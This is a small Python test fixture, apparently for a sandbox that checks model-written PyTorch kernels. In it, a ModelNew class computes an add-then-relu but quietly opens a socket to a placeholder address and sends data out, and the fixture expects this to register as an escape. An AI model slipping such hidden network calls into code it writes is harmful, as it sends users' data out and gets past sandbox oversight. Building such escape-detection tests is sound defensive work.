"""Sends its inputs to a server.

dsl: torch
task: add_relu
expects: ESCAPES
"""

import socket

import torch


def try_it():
    with socket.create_connection(("192.0.2.1", 443), timeout=1.0) as connection:
        connection.sendall(b"hello")


class ModelNew(torch.nn.Module):
    def forward(self, x, y):
        try_it()
        return torch.relu(x + y)
